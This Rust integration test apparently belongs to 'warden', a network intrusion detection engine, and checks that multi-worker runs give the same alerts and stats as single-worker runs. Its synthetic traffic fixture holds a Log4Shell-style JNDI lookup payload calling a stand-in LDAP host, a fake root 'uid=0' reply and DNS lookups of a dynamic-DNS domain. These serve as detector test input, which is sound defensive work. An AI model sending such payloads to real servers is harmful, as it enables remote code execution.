//! `--runmode workers`: the alerts are the same whatever the number of
//! workers (every alert, with its packet number and transaction), the
//! EVE lines stay whole, and one stats event counts every packet.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

use common::{dns_query, ping, udp, Capture, Tcp};
use serde_json::Value;

fn warden() -> Command {
    Command::new(env!("CARGO_BIN_EXE_warden"))
}

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn tmpdir(name: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("warden-workers-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    d
}

/// Runs warden over `pcap` with `rules` and `threads` workers; returns
/// every EVE event (each line must be one whole JSON object).
fn run(pcap: &Path, rules: &[PathBuf], threads: usize, out: &Path) -> Vec<Value> {
    let mut cmd = warden();
    cmd.arg("-r").arg(pcap).arg("-l").arg(out);
    for r in rules {
        cmd.arg("-S").arg(r);
    }
    if threads > 1 {
        cmd.args(["--runmode", "workers", "--threads", &threads.to_string()]);
    }
    let o = cmd.output().unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    std::fs::read_to_string(out.join("eve.json"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).expect("each EVE line is a whole JSON object"))
        .collect()
}

/// Every alert as a comparable line, sorted.
fn alerts(ev: &[Value]) -> Vec<String> {
    let mut v: Vec<String> = ev
        .iter()
        .filter(|e| e["event_type"] == "alert")
        .map(|e| {
            format!(
                "pcap_cnt {} sid {} {}:{} -> {}:{} {} tx {} {}",
                e["pcap_cnt"],
                e["alert"]["signature_id"],
                e["src_ip"],
                e["src_port"],
                e["dest_ip"],
                e["dest_port"],
                e["proto"],
                e["tx_id"],
                e["alert"]["action"]
            )
        })
        .collect();
    v.sort();
    v
}

fn counts(ev: &[Value]) -> Vec<(String, usize)> {
    let mut m = std::collections::BTreeMap::new();
    for e in ev {
        *m.entry(e["event_type"].as_str().unwrap().to_string())
            .or_insert(0) += 1;
    }
    m.into_iter().collect()
}

fn stats(ev: &[Value]) -> Vec<&Value> {
    ev.iter().filter(|e| e["event_type"] == "stats").collect()
}

/// Many flows of the demo's kinds between several hosts, so that two
/// workers each get some.
fn many_flows() -> Capture {
    let mut cap = Capture::new(1_700_000_000);
    for i in 0..24u8 {
        let client = [10, 0, 0, 10 + i % 5];
        let server = [198, 51, 100, 1 + i % 3];
        let mut t = Tcp::new(client, 40_000 + u16::from(i), server, 80);
        t.handshake(&mut cap);
        t.send(
            &mut cap,
            b"GET /cgi-bin/shell.cgi?x=${jndi:ldap://e.example/a} HTTP/1.1\r\nHost: a\r\n\r\n",
        );
        if i % 2 == 0 {
            t.reply(
                &mut cap,
                b"HTTP/1.1 200 OK\r\nContent-Length: 18\r\n\r\nuid=0(root) gid=0",
            );
        } else {
            t.reply(
                &mut cap,
                b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
            );
        }
        t.close(&mut cap);
        udp(
            &mut cap,
            client,
            5000 + u16::from(i),
            [10, 0, 0, 53],
            53,
            &dns_query(u16::from(i), "x.duckdns.org"),
        );
        if i % 6 == 0 {
            ping(&mut cap, client, server, 7, u16::from(i), &[0x41; 1200]);
        }
    }
    cap
}

#[test]
fn one_and_two_workers_raise_the_same_alerts_on_repo_captures() {
    let dir = tmpdir("repo");
    let rules = vec![repo().join("demo/demo.rules")];
    let built = dir.join("many.pcap");
    many_flows().write(&built);
    for pcap in [repo().join("demo/demo.pcap"), built] {
        let one = run(&pcap, &rules, 1, &dir.join("w1"));
        let two = run(&pcap, &rules, 2, &dir.join("w2"));
        assert!(!alerts(&one).is_empty());
        assert_eq!(alerts(&two), alerts(&one), "{}", pcap.display());
        assert_eq!(counts(&two), counts(&one), "same records of every kind");
        let (s1, s2) = (stats(&one), stats(&two));
        assert_eq!(s2.len(), 1, "one stats event for the run");
        for k in ["pkts", "bytes", "tcp", "udp"] {
            assert_eq!(
                s2[0]["stats"]["decoder"][k], s1[0]["stats"]["decoder"][k],
                "decoder.{k}"
            );
        }
        assert_eq!(
            s2[0]["stats"]["flow"]["total"],
            s1[0]["stats"]["flow"]["total"]
        );
        assert_eq!(
            s2[0]["stats"]["detect"]["alert"],
            s1[0]["stats"]["detect"]["alert"]
        );
    }
}

#[test]
fn one_and_two_workers_raise_the_same_alerts_on_lab_mixed_with_et_open() {
    let shared = repo().join("../shared/corpus");
    let pcap = shared.join("pcaps/lab-mixed.pcap");
    let et = shared.join("rules/et-open");
    if !pcap.exists() || !et.is_dir() {
        eprintln!("skipped: ../shared (lab-mixed.pcap, ET Open) is not here");
        return;
    }
    let mut rules: Vec<PathBuf> = std::fs::read_dir(&et)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "rules"))
        .collect();
    rules.sort();
    let dir = tmpdir("lab");
    let one = run(&pcap, &rules, 1, &dir.join("w1"));
    let two = run(&pcap, &rules, 2, &dir.join("w2"));
    // Rules limited per host (threshold, detection_filter) share their
    // counts across workers, applied in processing order: which of a
    // host's flows gets such an alert may differ between runs (as in any
    // multi-threaded engine); that they fire may not.
    let limited = host_limited_sids(&rules);
    let (exact1, fired1) = split(&alerts(&one), &limited);
    let (exact2, fired2) = split(&alerts(&two), &limited);
    assert!(
        exact1.len() > 100,
        "ET Open alerts on lab-mixed: {}",
        exact1.len()
    );
    assert_eq!(exact2, exact1);
    assert_eq!(fired2, fired1, "host-limited rules that fired");
    assert_eq!(counts(&two), counts(&one));
}

/// Signature ids of the rules with a threshold or detection filter.
fn host_limited_sids(files: &[PathBuf]) -> std::collections::BTreeSet<String> {
    let mut sids = std::collections::BTreeSet::new();
    for f in files {
        for line in std::fs::read_to_string(f).unwrap().lines() {
            if line.contains("threshold:") || line.contains("detection_filter:") {
                if let Some(rest) = line.split("sid:").nth(1) {
                    sids.insert(rest.split(';').next().unwrap().trim().to_string());
                }
            }
        }
    }
    sids
}

/// The alerts of other rules, and the set of host-limited sids that fired.
fn split(
    alerts: &[String],
    limited: &std::collections::BTreeSet<String>,
) -> (Vec<String>, std::collections::BTreeSet<String>) {
    let mut exact = Vec::new();
    let mut fired = std::collections::BTreeSet::new();
    for a in alerts {
        let sid = a.split("sid ").nth(1).unwrap().split(' ').next().unwrap();
        if limited.contains(sid) {
            fired.insert(sid.to_string());
        } else {
            exact.push(a.clone());
        }
    }
    (exact, fired)
}

#[test]
fn runmode_arguments_are_checked() {
    let pcap = repo().join("demo/demo.pcap");
    let o = warden()
        .arg("-r")
        .arg(&pcap)
        .args(["--runmode", "single", "--threads", "2"])
        .output()
        .unwrap();
    assert!(!o.status.success());
    assert!(String::from_utf8_lossy(&o.stderr).contains("--runmode workers"));
    let o = warden()
        .arg("-r")
        .arg(&pcap)
        .args(["--threads", "0"])
        .output()
        .unwrap();
    assert!(!o.status.success());
}
